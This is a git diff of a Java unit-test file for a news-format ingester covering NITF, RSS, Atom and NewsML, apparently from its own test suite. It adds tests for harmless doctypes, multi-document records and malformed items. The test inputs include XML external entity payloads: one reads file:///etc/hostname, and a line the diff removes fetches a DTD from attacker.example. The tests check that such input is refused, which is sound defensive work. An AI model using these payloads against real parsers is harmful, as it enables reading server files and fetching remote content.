@@ -1,14 +1,18 @@
 package io.depeche.ingest.format;
 
 import static io.depeche.ingest.format.Files.code;
+import static io.depeche.ingest.format.Files.item;
 import static io.depeche.ingest.format.Files.message;
 import static io.depeche.ingest.format.Files.text;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import io.depeche.ingest.format.found.Found;
+import io.depeche.ingest.format.found.FoundItem;
 import io.depeche.ingest.format.found.Reading;
 import io.depeche.model.Growth;
 import java.nio.charset.StandardCharsets;
+import java.util.List;
+import java.util.Objects;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -137,10 +141,56 @@ class FormatsTest {
             strings = {
                 "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]><newsItem xmlns='http://iptc.org/std/nar/2006-10-01/'>&a;</newsItem>",
                 "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/hostname'>]><newsItem xmlns='http://iptc.org/std/nar/2006-10-01/'>&a;</newsItem>",
-                "<!doctype x [\n<!entity % p SYSTEM 'http://attacker.example/x.dtd'> %p;]><nitf/>"
+                "<!doctype nitf [<!-- ]> --><!entity a \"]>\">]><nitf><body>&a;</body></nitf>"
             })
-    void shouldRefuseADocumentThatDeclaresEntitiesAsUnsafe(String input) {
+    void shouldRefuseADocumentThatUsesAnEntityOfItsDoctypeAsUnsafe(String input) {
         assertThat(code(Files.read(input).found().get(0))).isEqualTo("FMT-UNSAFE");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "<!DOCTYPE nitf SYSTEM 'nitf.dtd'>",
+                "<!DOCTYPE nitf PUBLIC '-//IPTC//DTD NITF 3.2//EN' 'nitf-3-2.dtd' [<!ENTITY % l PUBLIC 'x' 'l.ent'> %l;]>",
+                "<!DOCTYPE nitf [<!ENTITY unused 'x'><!ELEMENT nitf ANY><!-- it's ]> -->]>",
+                "<!-- made by hand --> <!DOCTYPE nitf [\n<!ATTLIST nitf a CDATA '>'>\n] >"
+            })
+    void shouldReadADocumentWhoseDoctypeIsHarmless(String doctype) {
+        FoundItem item = item("\n <?xml version='1.0'?>" + doctype
+                + "<nitf><body><body.content><p>Br&eacute;ndt</p></body.content></body></nitf>");
+
+        assertThat(Objects.requireNonNull(item.body()).value()).contains("Bréndt");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"", "\n\n", "<!-- next -->", "<?xml version='1.0'?>", "\n<?xml version='1.0'?>\n<!DOCTYPE nitf>\n"})
+    void shouldReadAllDocumentsOfARecord(String between) {
+        String one = "<nitf><body><body.head><hedline><hl1>Rain</hl1></hedline></body.head></body></nitf>";
+
+        Reading reading = Files.read("<?xml version='1.0'?>" + one + between + one + between + one + "\n");
+
+        assertThat(reading.format()).isEqualTo("nitf");
+        assertThat(reading.found()).hasSize(3).allMatch(found -> Files.code(found).equals("an item"));
+    }
+
+    @ParameterizedTest
+    @CsvSource({
+        "rss, <rss><channel>, item, </channel></rss>",
+        "feed, '<feed xmlns=\"http://www.w3.org/2005/Atom\">', entry, </feed>",
+        "message, '<newsMessage xmlns=\"http://iptc.org/std/nar/2006-10-01/\"><itemSet>', newsItem, </itemSet></newsMessage>"
+    })
+    void shouldReadTheNeighboursOfAnItemThatIsNotWellFormed(String name, String open, String tag, String close) {
+        // given
+        String good = name.equals("message")
+                ? "<newsItem guid='urn:x:1'><contentMeta><headline>Rain</headline></contentMeta></newsItem>"
+                : "<" + tag + "><title>Rain</title><id>1</id></" + tag + ">";
+        String bad = "<" + tag + "><title>Rain</b></" + tag + ">";
+        // when
+        List<Found> found = Files.read(open + good + bad + good + bad + good + close).found();
+        // then
+        assertThat(found)
+                .extracting(Files::code)
+                .containsExactly("an item", "FMT-MALFORMED", "an item", "FMT-MALFORMED", "an item");
     }
 
     @Test
